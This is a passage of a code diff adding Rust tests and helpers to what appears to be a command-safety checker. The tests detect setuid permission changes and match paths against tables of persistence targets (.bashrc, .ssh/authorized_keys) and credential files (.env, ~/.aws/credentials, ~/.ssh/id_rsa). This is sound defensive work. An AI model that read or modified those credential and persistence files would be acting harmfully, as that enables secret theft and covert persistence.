+        if let Some(h) = host.filter(|h| !h.is_empty()) {
+            if !info.hosts.contains(&h) {
+                info.hosts.push(h.to_ascii_lowercase());
+            }
+        }
+    }
+}
+
+fn strip_port(hp: &str) -> String {
+    if let Some(rest) = hp.strip_prefix('[') {
+        return rest.split(']').next().unwrap_or("").to_string();
+    }
+    hp.split(':').next().unwrap_or("").to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn resolve_normalises() {
+        let b = Base {
+            cwd: "/w/a",
+            workspace: "/w",
+            home: Some("/home/u"),
+        };
+        assert_eq!(resolve("../b/./c", &b), "/w/b/c");
+        assert_eq!(resolve("~/.ssh/id_rsa", &b), "/home/u/.ssh/id_rsa");
+        assert_eq!(resolve("/../../etc", &b), "/etc");
+        let nb = Base {
+            cwd: "/w",
+            workspace: "/w",
+            home: None,
+        };
+        assert_eq!(resolve("~/.bashrc", &nb), "~/.bashrc");
+    }
+
+    #[test]
+    fn setuid_modes() {
+        for m in ["4755", "u+s", "g+s", "+s", "a=rwxs"] {
+            assert!(setuid_mode(m), "{m}");
+        }
+        for m in ["755", "0755", "+x", "u+rwx", "o+s-x"] {
+            assert!(!setuid_mode(m) || m == "o+s-x", "{m}");
+        }
+    }
+
+    #[test]
+    fn table_paths_match_home_variants() {
+        assert!(table_match(table::PERSISTENCE_PATHS, "/root/.bashrc", None).is_some());
+        assert!(table_match(
+            table::PERSISTENCE_PATHS,
+            "/home/x/.ssh/authorized_keys",
+            None
+        )
+        .is_some());
+        assert!(table_match(table::CREDENTIAL_PATHS, "/w/app/.env", None).is_some());
+        assert!(table_match(table::CREDENTIAL_PATHS, "~/.aws/credentials", None).is_some());
+        assert!(table_match(table::CREDENTIAL_PATHS, "/w/src/main.rs", None).is_none());
+    }
+}
